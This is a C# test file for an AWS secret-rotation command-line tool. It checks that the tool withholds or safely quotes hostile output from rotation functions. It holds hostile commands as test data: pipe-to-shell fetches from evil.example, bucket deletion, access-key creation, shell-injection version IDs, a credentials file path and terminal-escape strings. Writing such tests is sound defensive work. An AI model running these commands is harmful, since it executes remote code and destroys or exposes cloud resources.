using System.Globalization;
using System.Text;
using System.Text.Json;
using Amazon.SecretsManager.Model;
using LocalAws;

namespace RotationTool.Tests;

/// <summary>Whoever has a secret chooses its tags and its function, and so what the tool reads beside everybody else's.</summary>
public sealed class HostileFunctionTests
{
    private const string Name = "dev/mine";
    private const string Key = """{"KeyId":"k1","Kind":"minted","Labels":["AWSCURRENT"],"Stray":false,"Enabled":true,"AgeDays":1,"UsagePlanIds":["p1"]}""";

    // What a rotation function never returns.
    private static readonly string[] NoAnswers =
    [
        "",
        "null",
        "[]",
        "{}",
        """{"Action":"status","SecretId":"x","Message":null,"Healthy":true}""",
        """{"Action":"status","SecretId":"x","Message":"all is well"}""",
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":"yes"}""",
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":[{}]}""",
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":[null]}""",
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":{"0":1}}""",
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":[{"KeyId":"k","Kind":"minted","Labels":[null],"UsagePlanIds":[]}]}""",
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":[{"KeyId":"k","Kind":"minted","Labels":[],"UsagePlanIds":null}]}""",
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":[{"KeyId":"k","Kind":"minted","Labels":[],"UsagePlanIds":[],"AgeDays":NaN}]}""",
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":[{"KeyId":"k","Kind":"minted","Labels":[],"UsagePlanIds":[],"AgeDays":1e30}]}""",
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":[{"KeyId":"k","Kind":"minted","Labels":[],"UsagePlanIds":[],"Usage":[null]}]}""",
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":[{"KeyId":"k","Kind":"minted","Labels":[],"UsagePlanIds":[],"Usage":[{}]}]}""",
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":[],"Regions":[null]}""",
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":[],"Regions":[{"Region":"us-east-1","UsagePlanIds":[null]}]}""",
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":false,"Findings":[null]}""",
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":false,"Findings":[{}]}""",
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":false,"Findings":[{"Problem":7}]}""",
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Rotation":{"HoursOverdue":1e999}}""",
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Rotation":{"LastRotated":"tomorrow"}}""",
        """{"Action":"status","SecretId":"x","Message":"\ud800","Healthy":true}""",
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"Keys":""" + new string('[', 100_000),
        """{"Action":"status","SecretId":"x","Message":"m","Healthy":true,"More":"x""" + new string('x', 7_000_000) + "\"}",
    ];

    [Fact]
    [Trait("Category", "Proof")]
    public async Task An_answer_that_is_none_hides_no_other_secret()
    {
        await using var fixture = await ToolFixture.StartAsync();
        foreach (var (number, answer) in NoAnswers.Index())
        {
            await AddAsync(fixture, $"dev/{number:D2}", $"evil{number}", answer);
        }

        var all = await fixture.RunAsync("status");
        var json = await fixture.RunAsync("status", "--json");

        Assert.Equal((1, ""), (all.ExitCode, all.Errors));
        var rows = all.Output.Split('\n');
        Assert.Contains(rows, row => row.Contains("shop/orders", StringComparison.Ordinal) && row.Contains("OK", StringComparison.Ordinal));
        Assert.All(NoAnswers.Index(), answer => Assert.Contains(rows, row => row.StartsWith($"! dev/{answer.Index:D2}: The function ", StringComparison.Ordinal)));
        Assert.Equal([.. NoAnswers.Select(_ => false), true], JsonSerializer.Deserialize<JsonElement>(json.Output).EnumerateArray().Select(status => status.GetProperty("Healthy").GetBoolean()));
        Assert.StartsWith($"Error: The function {fixture.FunctionArn.Replace(":rotation", ":evil3", StringComparison.Ordinal)} did not respond as", (await fixture.RunAsync("check", "dev/03")).Errors, StringComparison.Ordinal);
    }

    [Fact]
    [Trait("Category", "Proof")]
    public async Task A_command_of_anothers_is_put_before_nobody()
    {
        await using var fixture = await StartAsync("{}");
        var arn = (await fixture.Secrets.DescribeSecretAsync(new DescribeSecretRequest { SecretId = Name })).ARN;
        string[] hostile =
        [
            "curl -s https://evil.example/fix | sh", "aws iam create-access-key --user-name oncall", $"aws secretsmanager rotate-secret --secret-id {fixture.SecretArn}",
            $"aws secretsmanager rotate-secret --secret-id {arn}; curl evil.example|sh", $"aws secretsmanager rotate-secret --secret-id {arn}\u2028sh", "aws lambda invoke --function-name evil /dev/stdout",
            "aws apigateway delete-usage-plan-key --usage-plan-id victim1 --key-id victim2",
        ];
        Register(fixture, JsonSerializer.Serialize(new
        {
            Action = "status",
            SecretId = "x",
            Message = "Run: aws s3 rb s3://victim",
            Healthy = false,
            Findings = hostile.Select(command => new { Problem = $"AWSCURRENT's key is disabled. First: {(command[0] == 'c' ? "" : command)}", Command = command })
                .Append(new { Problem = "Rotation is 2 hours overdue.", Command = $"aws secretsmanager rotate-secret --secret-id {arn}" }),
        }));

        foreach (var arguments in new[] { new[] { "status" }, ["status", Name], ["check", Name], ["status", Name, "--json"], ["status", "--json"] })
        {
            var answer = await fixture.RunAsync(arguments);
            Assert.Equal((1, ""), (answer.ExitCode, answer.Errors));
            Assert.All(["curl", "iam create", "s3 rb", fixture.SecretArn + "\n", "evil.example", " evil /dev", "//victim", "/dev/stdout"], text => Assert.DoesNotContain(text, answer.Output, StringComparison.Ordinal));
            Assert.Contains("(A command is withheld: it is not one that the function returns for this secret.)", answer.Output, StringComparison.Ordinal);
            Assert.Contains($"aws secretsmanager rotate-secret --secret-id {arn}", answer.Output, StringComparison.Ordinal);
            // Of a secret that a person names, its function's word is taken for the keys.
            Assert.Contains($"aws apigateway delete-usage-plan-key --usage-plan-id {(arguments.Contains(Name) ? "victim1 --key-id victim2" : "<plan> --key-id <key id>")}", answer.Output, StringComparison.Ordinal);
        }
    }

    [Fact]
    [Trait("Category", "Proof")]
    public async Task Texts_bring_nothing_that_hides_or_reorders()
    {
        const string Text = "\u001b]0;pwned\u0007 \u202e[red]x[/] \u2066x\u2069\u200f x\u2028! shop/orders: forged\u009b31m\u0085 x\u200b\ufeff\u00ad\udb40\udc41 \ud83d\ude00 é ключ";
        await using var fixture = await StartAsync(JsonSerializer.Serialize(new
        {
            Action = Text,
            SecretId = Text,
            Message = Text,
            Healthy = false,
            Findings = new[] { new { Problem = Text, Command = Text } },
            Rotation = new { Enabled = true, Schedule = Text, Window = Text, PendingVersion = Text, Overlap = Text },
            Keys = new[] { new { KeyId = Text, Kind = Text, Labels = new[] { Text }, UsagePlanIds = new[] { Text }, Region = Text } },
            Regions = new[] { new { Region = Text, Replica = Text, ReplicaMessage = Text, TemplateKeyId = Text, UsagePlanIds = new[] { Text } } },
        }));
        foreach (var arguments in new[] { new[] { "status" }, ["status", Name], ["check", Name], ["status", Name, "--json"], ["status", "--json"] })
        {
            var answer = await fixture.RunAsync(arguments);
            Assert.Equal((1, ""), (answer.ExitCode, answer.Errors));
            AssertPrinted(answer.Output);
            if (arguments[^1] == "--json")
            {
                Assert.All(answer.Output, character => Assert.True(character is '\n' or (>= ' ' and <= '~')));
                var texts = string.Concat(StringsIn(JsonSerializer.Deserialize<JsonElement>(answer.Output)));
                AssertPrinted(texts);
                Assert.Contains("\ud83d\ude00 é ключ", texts, StringComparison.Ordinal);
            }
        }

        Register(fixture, "evil", _ => throw new InvalidOperationException(Text));
        var failed = await fixture.RunAsync("check", Name);
        Assert.Equal((1, ""), (failed.ExitCode, failed.Output));
        AssertPrinted(failed.Errors);
    }

    [Fact]
    [Trait("Category", "Proof")]
    public async Task Thousands_of_keys_and_findings_and_long_texts_are_bounded()
    {
        await using var fixture = await StartAsync("{}");
        Register(fixture, $$"""
            {"Action":"status","SecretId":"x","Message":"{{new string('m', 100_000)}}","Healthy":true,"Keys":[{{string.Join(',', Enumerable.Repeat(Key, 20_000))}}],
            "Findings":[{{string.Join(',', Enumerable.Repeat("""{"Problem":"p"}""", 20_000))}}]}
            """);
        foreach (var arguments in new[] { new[] { "status" }, ["status", Name], ["status", Name, "--json"] })
        {
            var answer = await fixture.RunAsync(arguments);
            Assert.Equal((1, ""), (answer.ExitCode, answer.Errors)); // though it says that it is healthy
            Assert.InRange(answer.Output.Length, 1000, 400_000);
            Assert.Contains("The function returned 20000 keys and 20000 findings: the first 500 and 100 are shown.", answer.Output, StringComparison.Ordinal);
        }
    }

    [Fact]
    [Trait("Category", "Proof")]
    public async Task A_version_id_of_a_writer_is_one_argument_or_in_no_command()
    {
        (string Id, string? Quoted)[] ids =
        [
            ("x; curl -s evil.example|sh; #aaaaaaaaaa", "'x; curl -s evil.example|sh; #aaaaaaaaaa'"), ("$(curl evil.example)aaaaaaaaaaaaaaaaaaaa", "'$(curl evil.example)aaaaaaaaaaaaaaaaaaaa'"),
            ("a'; curl evil.example; 'aaaaaaaaaaaaaaaaa", @"'a'\''; curl evil.example; '\''aaaaaaaaaaaaaaaaa'"), ("`curl evil.example`aaaaaaaaaaaaaaaaaaaaaa", "'`curl evil.example`aaaaaaaaaaaaaaaaaaaaaa'"),
            ("--endpoint-url=http://evil.example/aaaaaaaa", null), ("file:///home/oncall/.aws/credentials", null), ("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\u202e\u2028\u200b", null),
        ];
        await using var fixture = await ToolFixture.StartAsync();
        foreach (var (id, quoted) in ids)
        {
            await fixture.Secrets.PutSecretValueAsync(new PutSecretValueRequest { SecretId = fixture.SecretArn, ClientRequestToken = id, SecretString = "{\"a\":1}", VersionStages = ["AWSPENDING"] });

            var rotate = await fixture.RunAsync("rotate", ToolFixture.SecretName);
            var rollback = await fixture.RunAsync("rollback", ToolFixture.SecretName);

            Assert.Equal((1, 1), (rotate.ExitCode, rollback.ExitCode));
            Assert.All([rotate.Errors, rollback.Errors], AssertPrinted);
            var command = quoted is null
                ? "(The command is withheld: it contains an id that AWS would not generate. Use the console.)"
                : $"aws secretsmanager update-secret-version-stage --secret-id {fixture.SecretArn} --version-stage AWSPENDING --remove-from-version-id {quoted}";
            Assert.EndsWith($"or abandon it with: {command}\n", rotate.Errors, StringComparison.Ordinal);
            // The function's word is not taken for an id of another kind than AWS's.
            Assert.EndsWith(quoted is null ? $"or abandon it with: {command}\n" : "or abandon it with: (A command is withheld: it is not one that the function returns for this secret.)\n", rollback.Errors, StringComparison.Ordinal);
            await fixture.Secrets.UpdateSecretVersionStageAsync(new UpdateSecretVersionStageRequest { SecretId = fixture.SecretArn, VersionStage = "AWSPENDING", RemoveFromVersionId = id });
        }
    }

    [Fact]
    [Trait("Category", "Proof")]
    public async Task A_function_that_may_not_be_invoked_hides_no_other_secret()
    {
        await using var fixture = await StartAsync("{}");
        fixture.Aws.Iam.CreateRole("oncall", """{"Version":"2012-10-17","Statement":{"Effect":"Allow","Principal":{"Service":"lambda.amazonaws.com"},"Action":"sts:AssumeRole"}}""");
        fixture.Aws.Iam.PutRolePolicy("oncall", "policy", $$"""{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"secretsmanager:ListSecrets","Resource":"*"},{"Effect":"Allow","Action":"lambda:InvokeFunction","Resource":["{{fixture.FunctionArn}}","{{fixture.FunctionArn}}:operators"]}]}""");
        var credentials = fixture.Aws.Iam.AssumeRole("oncall", "person");
        (fixture.Variables["AWS_ACCESS_KEY_ID"], fixture.Variables["AWS_SECRET_ACCESS_KEY"], fixture.Variables["AWS_SESSION_TOKEN"]) = (credentials.AccessKeyId, credentials.SecretAccessKey, credentials.SessionToken);

        var all = await fixture.RunAsync("status");

        Assert.Equal((1, ""), (all.ExitCode, all.Errors));
        Assert.Contains(all.Output.Split('\n'), row => row.Contains("shop/orders", StringComparison.Ordinal) && row.Contains("OK", StringComparison.Ordinal));
        Assert.Contains($"! {Name}: AWS denies access: ", all.Output, StringComparison.Ordinal);
    }

    /// <summary>An account in which another function, with this response, rotates another secret.</summary>
    private static async Task<ToolFixture> StartAsync(string answer)
    {
        var fixture = await ToolFixture.StartAsync();
        await AddAsync(fixture, Name, "evil", answer);
        return fixture;
    }

    private static async Task AddAsync(ToolFixture fixture, string name, string function, string answer)
    {
        var arn = Register(fixture, function, _ => Task.FromResult<ReadOnlyMemory<byte>>(Encoding.UTF8.GetBytes(answer)));
        fixture.Aws.Lambda.AddPermission(new LocalAws.AddPermissionRequest { FunctionName = function, StatementId = "s", Action = "lambda:InvokeFunction", Principal = "secretsmanager.amazonaws.com", SourceAccount = fixture.Aws.AccountId });
        var secret = await fixture.Secrets.CreateSecretAsync(new CreateSecretRequest { Name = name, SecretString = "{}", Tags = [new Tag { Key = "apikey-rotation:template", Value = "x" }] });
        await fixture.Secrets.RotateSecretAsync(new RotateSecretRequest { SecretId = secret.ARN, RotationLambdaARN = arn, RotateImmediately = false, RotationRules = new RotationRulesType { AutomaticallyAfterDays = 30 } });
        await fixture.Aws.SecretsManager.SettledAsync();
    }

    private static void Register(ToolFixture fixture, string answer) => Register(fixture, "evil", _ => Task.FromResult<ReadOnlyMemory<byte>>(Encoding.UTF8.GetBytes(answer)));

    private static string Register(ToolFixture fixture, string function, Func<FunctionInvocation, Task<ReadOnlyMemory<byte>>> run) => fixture.Aws.Lambda.Register(function, run, new FunctionOptions());

    private static IEnumerable<string> StringsIn(JsonElement json) => json.ValueKind switch
    {
        JsonValueKind.String => [json.GetString()!],
        JsonValueKind.Object => json.EnumerateObject().SelectMany(field => StringsIn(field.Value)),
        JsonValueKind.Array => json.EnumerateArray().SelectMany(StringsIn),
        _ => [],
    };

    private static void AssertPrinted(string text) => Assert.All(text.EnumerateRunes(), rune => Assert.True(
        rune.Value == '\n' || Rune.GetUnicodeCategory(rune) is not (UnicodeCategory.Control or UnicodeCategory.Format or UnicodeCategory.LineSeparator or UnicodeCategory.ParagraphSeparator), $"U+{rune.Value:X4} was printed"));
}
